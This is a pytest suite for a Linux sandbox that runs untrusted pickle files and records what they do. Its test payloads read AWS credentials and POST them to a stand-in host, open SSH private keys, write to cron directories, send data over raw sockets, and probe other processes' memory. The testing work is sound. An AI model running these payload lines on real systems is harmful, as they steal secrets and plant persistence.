"""What a child does is seen from outside, in its phase; it is bounded, and gone when it should be."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from tests.sandbox.forging import runs, write_pickle

from openvet.sandbox import confine, seal
from openvet.sandbox.levels import ENOUGH, LADDER, Level, missing
from openvet.sandbox.no_network import NoNetwork
from openvet.sandbox.supervisor import AFTER, Bounds, Event, Run, run

#: 2n is 3 without Landlock, which the canary looks at
LEVELS = [each for each in LADDER if each.number >= ENOUGH and each.id != "2n"]
pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="models are run on Linux alone")


@pytest.fixture(params=LEVELS, ids=lambda each: each.id)
def level(request: pytest.FixtureRequest) -> Level:
    found: Level = request.param
    if missing(found):
        pytest.skip(missing(found))
    return found


@pytest.fixture(params=["3", "2"])
def watched(request: pytest.FixtureRequest) -> Level:
    """Where the parent is told of calls."""
    found = next(each for each in LADDER if each.id == request.param)
    if missing(found):
        pytest.skip(missing(found))
    return found


@pytest.fixture
def two() -> Level:
    found = next(each for each in LADDER if each.id == "2")
    if missing(found):
        pytest.skip(missing(found))
    return found


def load(path: Path, level: Level, bounds: Bounds | None = None, **work: object) -> Run:
    return run(
        {"work": "openvet.sandbox.lifecycle", "loader": "pickle", "path": str(path), **work},
        level,
        bounds,
        readable=[str(path)],
    )


def seen(found: Run, recorder: str, kind: str) -> list[Event]:
    return [each for each in found.events if (each.recorder, each.kind) == (recorder, kind)]


def test_phases_follow_each_other_and_what_is_seen_has_its_phase(level: Level, tmp_path: Path) -> None:
    text = "import atexit, os\nos.listdir(os.environ['HOME'])\natexit.register(os.listdir, os.environ['TMPDIR'])\n"
    found = load(write_pickle(tmp_path, text), level)
    assert found.answered
    assert [(each.name, each.outcome) for each in found.phases] == [
        ("prepare", "completed"), ("load", "completed"), ("construct", "left out"), ("forward", "left out"), ("unload", "completed"),
    ]  # fmt: skip
    assert [(each.phase, each.about) for each in seen(found, "audit", "os.listdir")] == [
        ("load", found.home),
        ("unload", found.scratch),
    ]
    assert seen(found, "audit", "compile")[0].detail == text
    assert seen(found, "audit", "pickle.find_class")[0].about.endswith(".exec")


def test_threads_run_and_calls_beyond_are_refused(watched: Level, tmp_path: Path) -> None:
    text = (
        "import ctypes, threading, errno\n"
        "said = []\n"
        "one = threading.Thread(target=said.append, args=('ran',)); one.start(); one.join()\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "for number in (435, 425, 321, 101):\n"
        "    libc.syscall(number, 0, 0, 0, 0); said.append(errno.errorcode[ctypes.get_errno()])\n"
        "print(said)\n"
    )
    found = load(write_pickle(tmp_path, text), watched)
    assert "['ran', 'ENOSYS', 'EPERM', 'EPERM', 'EPERM']" in found.output.decode() or os.uname().machine != "x86_64", (
        found.output
    )
    assert seen(found, "kernel", "io_uring_setup")[0].answer == "refused"


def test_native_code_is_seen_by_the_kernel(watched: Level, tmp_path: Path) -> None:
    # Python is not asked: libc opens, and makes the socket
    text = (
        "import ctypes\nlibc = ctypes.CDLL(None)\n"
        "libc.open(b'/home/somebody/.ssh/id_rsa', 0)\n"
        "libc.open(b'/etc/cron.d/x', 0o102, 0o600)\n"
        "fd = libc.socket(2, 1, 0)\n"
        "libc.connect(fd, b'\\x02\\0\\x01\\xbb\\xc6\\x33\\x64\\x07' + bytes(8), 16)\n"
        "libc.send(fd, b'stolen', 6, 0)\n"
    )
    found = load(write_pickle(tmp_path, text), watched)
    assert not seen(found, "audit", "socket.connect")
    assert "/home/somebody/.ssh/id_rsa" in {each.about for each in found.events if each.recorder == "kernel"}
    assert (
        seen(found, "kernel", "open to write")[0:]
        or seen(found, "kernel", "openat to write")[0].about == "/etc/cron.d/x"
    )
    assert seen(found, "kernel", "connect")[0].about == "198.51.100.7 443"
    sent = seen(found, "network", "sent")
    assert [(each.about, each.detail) for each in sent] == [("tcp 198.51.100.7 443", "stolen")]


def test_a_beacon_by_name_says_all_it_wanted_to_say(watched: Level, tmp_path: Path) -> None:
    text = (
        "import os, urllib.request\n"
        "key = open(os.path.expanduser('~/.aws/credentials')).read()\n"
        "urllib.request.urlopen('http://collect.example/take', data=key.encode(), timeout=5).read()\n"
    )
    found = load(write_pickle(tmp_path, text), watched, decoys={".aws/credentials": "T0KEN"})
    assert found.phases[1].outcome == "completed", found.phases
    assert {each.about for each in seen(found, "network", "looked up")} == {"collect.example"}
    sent = seen(found, "network", "sent")[0]
    assert sent.about == "tcp 192.0.2.1 80"
    assert "POST /take" in sent.detail
    assert "T0KEN" in sent.detail


def test_nothing_of_this_machine_is_reached(level: Level, tmp_path: Path) -> None:
    import socket

    secret, marker = tmp_path / "secret", tmp_path / "marker"
    secret.write_text("mine")
    with (
        socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as abstract,
        socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as named,
    ):
        abstract.bind(f"\0openvet-{os.getpid()}")
        named.bind(str(tmp_path / "s"))
        text = (
            f"import socket\n"
            f"for address in (chr(0) + 'openvet-{os.getpid()}', {str(tmp_path / 's')!r}):\n"
            f"  for make in (lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM), lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]):\n"
            f"    try: s = make()\n"
            f"    except OSError: continue\n"
            f"    for act in (lambda: s.connect(address), lambda: s.sendto(b'x', address), lambda: s.sendmsg([b'x'], [], 0, address)):\n"
            f"      try: act()\n"
            f"      except OSError: pass\n"
            f"for path, mode in (({str(secret)!r}, 'r'), ({str(marker)!r}, 'w')):\n"
            f"  try: print(open(path, mode).read())\n"
            f"  except OSError: pass\n"
        )
        found = load(write_pickle(tmp_path, text), level)
        for each in (abstract, named):
            each.setblocking(False)
            with pytest.raises(BlockingIOError):
                each.recv(10)
    assert found.answered
    assert not marker.exists()
    assert b"mine" not in found.output
    if "kernel" in found.recorders:
        assert f"unix @openvet-{os.getpid()}" in {each.about for each in found.events}


@pytest.mark.parametrize("name", [each.id for each in LADDER if each.number >= ENOUGH])
def test_no_other_process_is_within_reach(name: str, tmp_path: Path) -> None:
    # what has no filter, such as bubblewrap's own process in the namespace, would carry out what the child may not
    found = next(each for each in LADDER if each.id == name)
    if missing(found):
        pytest.skip(missing(found))
    text = (
        "import os\n"
        "others = [each for each in map(str, range(1, 20)) if each != str(os.getpid())]\n"
        "for each in others:\n"
        "  try: open(f'/proc/{each}/mem', 'r+b'); print('within reach', each)\n"
        "  except OSError: pass\n"
        "print('looked')"
    )
    assert load(write_pickle(tmp_path, text), found).output == b"looked\n"


def test_wall_time_is_a_limit_that_is_named(two: Level, tmp_path: Path) -> None:
    # the start of the child counts, and on a busy machine takes more than one
    found = load(write_pickle(tmp_path, "import time\ntime.sleep(60)"), two, Bounds(seconds=3))
    assert found.ended == "killed: the limit seconds (3) was reached"
    assert found.phases[-1].outcome == "cut short"


def test_other_limits_are_named(two: Level, tmp_path: Path) -> None:
    bounds = Bounds(seconds=60, memory=2 << 30, file_size=4096, cpu_seconds=1)
    found = load(write_pickle(tmp_path, "bytearray(3 << 30)"), two, bounds)
    assert (found.phases[1].outcome, found.phases[1].detail) == (
        "failed",
        f"MemoryError:  (limit memory = {2 << 30} bytes)",
    )
    found = load(write_pickle(tmp_path, "import os\nwhile True: pass"), two, bounds)
    assert found.ended == "it was ended by SIGXCPU: the limit cpu_seconds (1) was reached"
    write = "import os\nopen(os.environ['TMPDIR'] + '/x', 'wb', 0).write(bytes(4096) * 2)\nopen(os.environ['TMPDIR'] + '/x', 'ab', 0).write(b'x')"
    found = load(write_pickle(tmp_path, write), two, bounds)
    assert found.phases[1].detail.endswith("(limit file_size = 4096 bytes)")
    found = load(
        write_pickle(tmp_path, f"import signal\nsignal.signal(signal.SIGXFSZ, signal.SIG_DFL)\n{write}"), two, bounds
    )
    assert found.ended == "it was ended by SIGXFSZ: the limit file_size (4096) was reached"


@pytest.mark.parametrize(
    ("line", "ended"),
    [
        ("garbage", "killed: it said what the child of ours does not say"),
        ('["no", "such"]', "killed: it said what the child of ours does not say"),
        ("[" * 5000, "killed: it said what the child of ours does not say"),
    ],
)
def test_what_is_forged_on_the_channel_is_noticed(line: str, ended: str, two: Level, tmp_path: Path) -> None:
    text = f"import os\nfor fd in range(3, 1024):\n  try: os.write(fd, b{(line + chr(10))!r})\n  except OSError: pass\nimport time; time.sleep(5)"
    found = load(write_pickle(tmp_path, text), two, Bounds(seconds=20))
    assert found.ended == ended


def test_a_forged_end_does_not_stop_the_watching(two: Level, tmp_path: Path) -> None:
    said = "".join(json.dumps(each) + "\n" for each in (["over", "completed", ""], ["answer", {}]))
    text = (
        f"import os, ctypes\nopens = ctypes.CDLL(None).open\n"
        f"for fd in range(3, 1024):\n  try: os.write(fd, {said.encode()!r})\n  except OSError: pass\n"
        f"opens(b'/home/somebody/.ssh/id_rsa', 0)\n"
    )
    found = load(write_pickle(tmp_path, text), two, Bounds(seconds=20))
    assert not found.answered
    assert any(each.phase == AFTER and each.about.endswith("id_rsa") for each in found.events), found.events


def test_too_much_said_is_an_end(two: Level, tmp_path: Path) -> None:
    text = "import os\nfor fd in range(3, 1024):\n  try:\n    while True: os.write(fd, bytes(100000))\n  except OSError: pass\n"
    found = load(write_pickle(tmp_path, text), two, Bounds(seconds=30))
    assert found.ended == "killed: it said more than is listened to"


def test_without_a_parent_that_listens_calls_are_refused(two: Level, tmp_path: Path) -> None:
    path = write_pickle(tmp_path, "import socket\ntry: socket.socket()\nexcept OSError as e: print(e)")
    found = run(
        {"work": "openvet.sandbox.lifecycle", "loader": "pickle", "path": str(path)},
        two,
        readable=[str(path)],
        listen=False,
    )
    assert found.recorders == ("audit",)
    assert b"not permitted" in found.output


@pytest.mark.parametrize("how", ["killed", "interrupted"])
def test_no_child_outlives_its_parent(how: str, level: Level, tmp_path: Path) -> None:
    mark = f"openvet-{os.getpid()}-{level.id}-{how}"
    path = tmp_path / mark
    path.write_bytes(runs("import time\ntime.sleep(100)"))
    code = (
        "import sys\nfrom openvet.sandbox.levels import LADDER\nfrom openvet.sandbox.supervisor import run\n"
        "print('begins', flush=True)\n"
        f"level = next(each for each in LADDER if each.id == {level.id!r})\n"
        f"run({{'work': 'load', 'loader': 'pickle', 'path': {str(path)!r}, 'mark': {mark!r}}}, level, readable=[{str(path)!r}])\n"
    )
    parent = subprocess.Popen(
        [sys.executable, "-c", code],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        env={**os.environ, "TMPDIR": str(tmp_path)},
    )
    assert parent.stdout is not None
    assert parent.stdout.readline() == b"begins\n"
    # the child alone, or what holds its namespaces or its kernel as well
    wanted = {"2": 1, "3": 2, "4": 3}[level.id]
    children = _wait_for(lambda: _below(parent.pid), lambda found: len(found) >= wanted)
    time.sleep(0.5)
    every = _below(parent.pid)
    parent.send_signal(signal.SIGKILL if how == "killed" else signal.SIGINT)
    parent.wait(20)
    parent.stdout.close()
    assert len(children) >= wanted
    assert _wait_for(lambda: [each for each in every if _alive(each)], lambda left: not left) == []


def _wait_for(look: Callable[[], list[int]], enough: Callable[[list[int]], bool]) -> list[int]:
    until = time.monotonic() + 20
    while not enough(found := look()) and time.monotonic() < until:
        time.sleep(0.05)
    return found


def _below(pid: int) -> list[int]:
    """All descendants."""
    parents: dict[int, list[int]] = {}
    for folder in Path("/proc").iterdir():
        each = folder.name
        if each.isdigit():
            try:
                stat = (folder / "stat").read_text()
            except OSError:
                continue
            parents.setdefault(int(stat.rpartition(")")[2].split()[1]), []).append(int(each))
    found, todo = [], [pid]
    while todo:
        more = parents.get(todo.pop(), [])
        found += more
        todo += more
    return found


def _alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] not in "ZX"
    except OSError:
        return False


def test_other_threads_are_noticed_before_landlock() -> None:
    import threading

    ready = threading.Event()
    thread = threading.Thread(target=ready.wait)
    thread.start()
    try:
        with pytest.raises(Exception, match="threads run already"):
            confine.only_thread()
    finally:
        ready.set()
        thread.join()


def test_architectures_that_are_listed_are_those_of_the_filter() -> None:
    assert set(confine._SECCOMP) == set(seal._CALLS) == set(confine._CAPSET)


def test_names_over_datagrams_and_other_families(tmp_path: Path) -> None:
    noted: list[tuple[str, str, bytes]] = []
    network = NoNetwork(lambda *each: noted.append(each))
    assert network.open(16, 3) == (None, "family 16 type 3")
    theirs, about = network.open(2, 2)
    assert (about, theirs is not None) == ("ipv4 udp", True)
    network.opened(9)
    address = b"\x02\0\0\x35" + bytes([9, 9, 9, 9]) + bytes(8)
    memory = {1: address}
    assert network.sent("connect", [9, 1, 16, 0, 0, 0], lambda at, most: memory[at][:most]) == (0, "9.9.9.9 53")
    query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x04evil\x07example\0\0\x01\0\x01"
    assert theirs is not None
    theirs.send(query)
    (connection,) = network.descriptors.values()
    network.receive(connection)
    answer = theirs.recv(512)
    assert answer[:2] == query[:2]
    assert answer.endswith(bytes([192, 0, 2, 1]))
    assert noted == [("looked up", "evil.example", b"")]
    theirs.close()
    network.end()
    assert network.sent("connect", [77, 1, 16, 0, 0, 0], lambda at, most: address) == (None, "9.9.9.9 53")


def test_what_handed_the_descriptor_over_is_a_way_out_no_longer(two: Level, tmp_path: Path) -> None:
    import socket

    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as mine:
        mine.bind(str(tmp_path / "s"))
        mine.setblocking(False)
        text = (
            "import os, socket\n"
            "pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
            "for fd in range(3, 1024):\n"
            "  if fd in (pair[0].fileno(), pair[1].fileno()): continue\n"
            "  try:\n"
            "    os.dup2(pair[0].fileno(), fd)\n"
            f"    socket.socket(fileno=fd).sendmsg([b'out'], [], 0, {str(tmp_path / 's')!r})\n"
            "  except OSError: pass\n"
        )
        found = load(write_pickle(tmp_path, text), two, Bounds(seconds=15))
        with pytest.raises(BlockingIOError):
            mine.recv(10)
    assert not found.answered


def test_what_landlock_does_not_keep_away_is_feigned(level: Level, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("x")
    victim.chmod(0o600)
    before = victim.stat()
    text = f"import os\nos.chmod({str(victim)!r}, 0o777)\nos.utime({str(victim)!r}, (1, 1))\n"
    if level.id == "4":
        pytest.skip("gVisor tells the parent nothing")
    found = load(write_pickle(tmp_path, text), level, Bounds(seconds=20))
    after = victim.stat()
    assert (after.st_mode, after.st_mtime_ns) == (before.st_mode, before.st_mtime_ns)
    assert {each.kind for each in found.events if each.answer == "feigned"} >= {"utimensat"}, found.events


def test_more_descriptors_than_there_are_end_nothing(two: Level, tmp_path: Path) -> None:
    text = "import os, socket\ntry:\n  while True: os.dup(0)\nexcept OSError: pass\ntry: socket.socket()\nexcept OSError as error: print(error.errno)\n"
    assert load(write_pickle(tmp_path, text), two, Bounds(seconds=20)).answered


def test_a_timer_does_not_end_the_watching(two: Level, tmp_path: Path) -> None:
    text = (
        "import os, signal, time\nsignal.signal(signal.SIGALRM, lambda *_: None)\nsignal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)\n"
        "end = time.monotonic() + 0.5\nwhile time.monotonic() < end:\n  try: os.close(os.open('/dev/null', 0))\n  except FileNotFoundError: pass\n"
        "signal.setitimer(signal.ITIMER_REAL, 0)\ntry: os.open('/etc/../home/somebody/.ssh/id_rsa', 0)\nexcept OSError: pass\n"
    )
    found = load(write_pickle(tmp_path, text), two, Bounds(seconds=20))
    assert any(each.recorder == "kernel" and each.about == "/home/somebody/.ssh/id_rsa" for each in found.events), (
        found.events
    )
